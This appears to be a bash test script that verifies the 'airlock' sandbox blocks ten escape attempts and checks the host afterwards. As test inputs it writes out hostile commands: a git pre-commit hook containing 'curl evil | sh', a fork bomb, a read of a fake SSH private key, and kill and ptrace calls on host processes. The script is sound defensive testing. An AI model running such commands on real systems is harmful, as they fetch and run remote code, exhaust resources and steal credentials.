#!/usr/bin/env bash
# The sandbox restriction demo: for each restriction, an allowed command (the policy allows
# everything) attempts the escape through `airlock exec --json`; the demo shows the blocked
# outcome and its evidence, and checks the host afterwards. Exits non-zero when any
# restriction did not hold.
#
#   scripts/sandbox_restriction_demo.sh                   builds with scripts/bootstrap.sh first
#   scripts/sandbox_restriction_demo.sh --no-build AIRLOCK   uses an already built binary
#
# Nothing real is touched: HOME is a temporary directory with a fake key, the services are
# started by the demo on 127.0.0.1 and in its own directory, and everything is removed at exit.
set -euo pipefail

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
if [[ "${1:-}" == "--no-build" ]]; then
    AIRLOCK="${2:?usage: $0 --no-build PATH/TO/airlock}"
    AIRLOCK="$(cd "$(dirname "$AIRLOCK")" && pwd)/$(basename "$AIRLOCK")"
else
    "$ROOT/scripts/bootstrap.sh" --airlock 2>&1
    AIRLOCK="${BUILD_DIR:-$ROOT/build}/cli/airlock"
fi
PY=/usr/bin/python3
[[ -x "$PY" ]] || { echo "sandbox demo: needs $PY for the host services and JSON" >&2; exit 1; }

# Outside /tmp on purpose: the sandbox's /tmp is private, so a host directory under /var/tmp
# shows a refused write as an error instead of a write into the sandbox's own tmpfs.
DEMO_DIR="$(mktemp -d /var/tmp/airlock-sandbox-demo.XXXXXX)"
WS="$DEMO_DIR/workspace"
export HOME="$DEMO_DIR/home"
mkdir -p "$WS" "$HOME/.ssh"
printf 'FAKE-PRIVATE-KEY-FOR-THE-DEMO\n' >"$HOME/.ssh/id_rsa"
chmod 600 "$HOME/.ssh/id_rsa"
PIDS=()
cleanup() {
    for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null || true; done
    rm -rf "$DEMO_DIR"
}
trap cleanup EXIT

if [[ -t 1 ]]; then
    BOLD=$'\e[1m'; GREEN=$'\e[32m'; RED=$'\e[31m'; DIM=$'\e[2m'; RESET=$'\e[0m'
else
    BOLD=""; GREEN=""; RED=""; DIM=""; RESET=""
fi

failures=0
held() { printf '%s  ✔ held: %s%s\n' "$GREEN" "$1" "$RESET"; }
broken() { printf '%s  ✘ NOT HELD: %s%s\n' "$RED" "$1" "$RESET"; failures=$((failures + 1)); }
check() {  # check DESCRIPTION COMMAND... : the restriction held when COMMAND succeeds
    local what="$1"; shift
    if "$@"; then held "$what"; else broken "$what"; fi
}

# A policy that allows every call (so only the sandbox stands in the way), plus FIELDS.
policy() {  # policy NAME FIELDS
    local fields="${2:-}" env='"env": {"allow": ["PATH", "HOME", "LANG"]}'
    [[ "$fields" == *'"env"'* ]] && env=""
    printf '{"version": 1, "default": "allow"%s%s}\n' "${env:+, $env}" "${fields:+, $fields}" \
        >"$DEMO_DIR/$1.json"
    echo "$DEMO_DIR/$1.json"
}
DEFAULT_POLICY="$(policy default '')"

RESULT="$DEMO_DIR/result.json"
# attempt TITLE POLICY_FILE -- COMMAND...: runs it sandboxed and prints the evidence.
attempt() {
    local title="$1" pol="$2"; shift 3
    printf '\n%s== %s ==%s\n' "$BOLD" "$title" "$RESET"
    printf '%s$ airlock exec --json -- %s%s\n' "$DIM" "$*" "$RESET"
    (cd "$WS" && "$AIRLOCK" exec --json --no-builtin-policy --policy "$pol" -- "$@" >"$RESULT" 2>/dev/null) || true
    "$PY" - "$RESULT" <<'PYEOF'
import json, sys
try:
    j = json.load(open(sys.argv[1]))
except Exception as e:
    print("  (no JSON result: %s)" % e); sys.exit(0)
err = [l for l in j.get("stderr", "").splitlines() if l.strip()]
sb = j.get("sandbox") or {}
eff = sb.get("effective") or {}
fs_ = eff.get("filesystem") or {}
lim = eff.get("limits") or {}
print("  status=%s exit_code=%s adapter=%s" % (j.get("status"), j.get("exit_code"), sb.get("adapter")))
print("  stderr: %s" % (err[-1][:160] if err else "(empty)"))
print("  effective: network=%s namespaces=%s no_new_privs=%s capabilities=%s" % (
    eff.get("network"), ",".join(eff.get("namespaces", [])), eff.get("no_new_privs"), eff.get("capabilities")))
print("             hidden=%s read_only=%s" % (fs_.get("hidden"), fs_.get("read_only")))
print("             limits: timeout_ms=%s output_bytes=%s processes=%s truncated=%s" % (
    lim.get("timeout_ms"), lim.get("output_bytes_per_stream"), json.dumps(lim.get("processes")),
    json.dumps(j.get("truncated"))))
PYEOF
    # Evidence only counts when the command really ran in the sandbox.
    check "it ran inside the bwrap sandbox" test "$(jfield sandbox adapter)" = bwrap
}
jfield() { "$PY" -c 'import json,sys; j=json.load(open(sys.argv[1])); v=j
for k in sys.argv[2:]: v=v[k] if not isinstance(v, list) else v[int(k)]
print(v if not isinstance(v, bool) else str(v).lower())' "$RESULT" "$@" 2>/dev/null || echo "?"; }
status_is() { [[ "$(jfield status)" == "$1" ]]; }
stdout_lacks() { ! grep -qF -- "$1" <<<"$(jfield stdout)"; }
stdout_is() { [[ "$(jfield stdout)" == "$1" ]]; }
quietly() { "$@" >/dev/null; }
exit_nonzero() { [[ "$(jfield exit_code)" != 0 ]]; }

echo "${BOLD}airlock sandbox restriction demo${RESET} (workspace $WS, HOME $HOME)"
echo "Every call below is allowed by the policy: only the sandbox stands in the way."

# 1. Write outside the workspace.
TARGET="$DEMO_DIR/escaped.txt"
attempt "write outside the workspace" "$DEFAULT_POLICY" -- sh -c "echo pwned > '$TARGET'"
check "the command failed" exit_nonzero
check "no file was created on the host ($TARGET)" test ! -e "$TARGET"
attempt "  (control) the same write inside the workspace" "$DEFAULT_POLICY" -- sh -c "echo fine > inside.txt"
check "the control write succeeded" test -s "$WS/inside.txt"

# 2. Read a secret in ~/.ssh (deny_read).
SECRET_POLICY="$(policy secret "\"sandbox\": {\"deny_read\": [\"$HOME/.ssh\"]}")"
attempt "read a secret in ~/.ssh" "$SECRET_POLICY" -- sh -c 'cat "$HOME/.ssh/id_rsa"'
check "the key's content did not come out" stdout_lacks "FAKE-PRIVATE-KEY"
check "the key is untouched on the host" grep -q FAKE-PRIVATE-KEY "$HOME/.ssh/id_rsa"

# 3. Protected path .git/hooks (missing: it must not be creatable).
mkdir -p "$WS/.git"
HOOKS_POLICY="$(policy hooks '"sandbox": {"protected_paths": [".git/hooks"]}')"
attempt "plant a git hook in .git/hooks" "$HOOKS_POLICY" -- sh -c 'mkdir -p .git/hooks && echo "curl evil | sh" > .git/hooks/pre-commit'
check "the command failed" exit_nonzero
check "no hook exists on the host" test ! -e "$WS/.git/hooks/pre-commit"
check "no placeholder was left behind" test ! -e "$WS/.git/hooks"

# 4. Network to a service on the host's 127.0.0.1.
PORT_FILE="$DEMO_DIR/port"
"$PY" -c '
import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
import os; os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while True: s.accept()[0].close()
' "$PORT_FILE" &
PIDS+=($!)
for _ in $(seq 1 2000); do [[ -s "$PORT_FILE" ]] && break; "$PY" -c 'pass'; done
PORT="$(cat "$PORT_FILE")"
CONNECT_TCP="import socket; socket.create_connection(('127.0.0.1', $PORT), 2); print('connected')"
attempt "connect to a service on 127.0.0.1:$PORT" "$DEFAULT_POLICY" -- "$PY" -c "$CONNECT_TCP"
check "no connection was made" stdout_lacks "connected"
check "the host service is up (the demo itself connects)" quietly "$PY" -c "$CONNECT_TCP"

# 5. A host unix socket outside the workspace.
SOCK="$DEMO_DIR/host-service.sock"
"$PY" -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(8)
while True: s.accept()[0].close()
' "$SOCK" &
PIDS+=($!)
for _ in $(seq 1 2000); do [[ -S "$SOCK" ]] && break; "$PY" -c 'pass'; done
CONNECT_UNIX="import socket; socket.socket(socket.AF_UNIX).connect('$SOCK'); print('connected')"
attempt "connect to a host unix socket ($SOCK)" "$DEFAULT_POLICY" -- "$PY" -c "$CONNECT_UNIX"
check "no connection was made" stdout_lacks "connected"
check "the host socket is up (the demo itself connects)" quietly "$PY" -c "$CONNECT_UNIX"

# 6. Signal and ptrace a host process.
"$PY" -c 'import signal; signal.pause()' &
VICTIM=$!
PIDS+=("$VICTIM")
attempt "kill -9 a host process (pid $VICTIM)" "$DEFAULT_POLICY" -- sh -c "kill -9 $VICTIM"
check "the kill failed" exit_nonzero
check "the host process is still alive" kill -0 "$VICTIM"
PTRACE="import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); r = libc.ptrace(16, $VICTIM, 0, 0); print('attached' if r == 0 else 'refused: ' + os.strerror(ctypes.get_errno()))"
attempt "ptrace-attach a host process (pid $VICTIM)" "$DEFAULT_POLICY" -- "$PY" -c "$PTRACE"
check "the attach was refused" stdout_lacks "attached"
check "the host process is still alive" kill -0 "$VICTIM"

# 7. Fork bomb.
BOMB_POLICY="$(policy bomb '"limits": {"timeout_seconds": 10, "max_processes": 64}')"
printf 'f(){ f | f & }; f; wait\n' >"$WS/bomb-demo.sh"
attempt "fork bomb" "$BOMB_POLICY" -- sh bomb-demo.sh
check "airlock returned a result" test -s "$RESULT"
survivors() { ! pgrep -f bomb-demo.sh >/dev/null; }
check "no bomb process is left running" survivors

# 8. Timeout.
TIMEOUT_POLICY="$(policy timeout '"limits": {"timeout_seconds": 1}')"
attempt "a command that never ends (timeout 1 s)" "$TIMEOUT_POLICY" -- sh -c 'while :; do :; done'
check "status is timeout" status_is timeout
check "exit code is 124" test "$(jfield exit_code)" = 124

# 9. Output flood.
FLOOD_POLICY="$(policy flood '"limits": {"output_bytes": 65536, "timeout_seconds": 30}')"
attempt "output flood (50 MB to stdout, cap 64 KiB)" "$FLOOD_POLICY" -- sh -c 'head -c 50000000 /dev/zero | tr "\0" x'
check "stdout is marked truncated" test "$(jfield truncated stdout)" = true
check "at most 65536 bytes came back" test "$(jfield stdout | head -c 70000 | wc -c)" -le 65537

# 10. Environment secret.
export DEMO_SECRET_TOKEN="s3cr3t-demo-token"
attempt "read a secret from the environment (DEMO_SECRET_TOKEN)" "$DEFAULT_POLICY" -- sh -c 'env'
check "the variable is not in the command's environment" stdout_lacks "DEMO_SECRET_TOKEN"
check "its value is nowhere in the output" stdout_lacks "s3cr3t-demo-token"
ENV_POLICY="$(policy env '"env": {"allow": ["PATH", "DEMO_SECRET_TOKEN"]}')"
attempt "  (control) the same with the variable allowlisted" "$ENV_POLICY" -- sh -c 'echo ${#DEMO_SECRET_TOKEN}'
check "an allowlisted variable does arrive" stdout_is "17"
unset DEMO_SECRET_TOKEN

echo
if ((failures)); then
    printf '%s%d restriction check(s) did NOT hold.%s\n' "$RED$BOLD" "$failures" "$RESET"
    exit 1
fi
printf '%sEvery restriction held.%s\n' "$GREEN$BOLD" "$RESET"
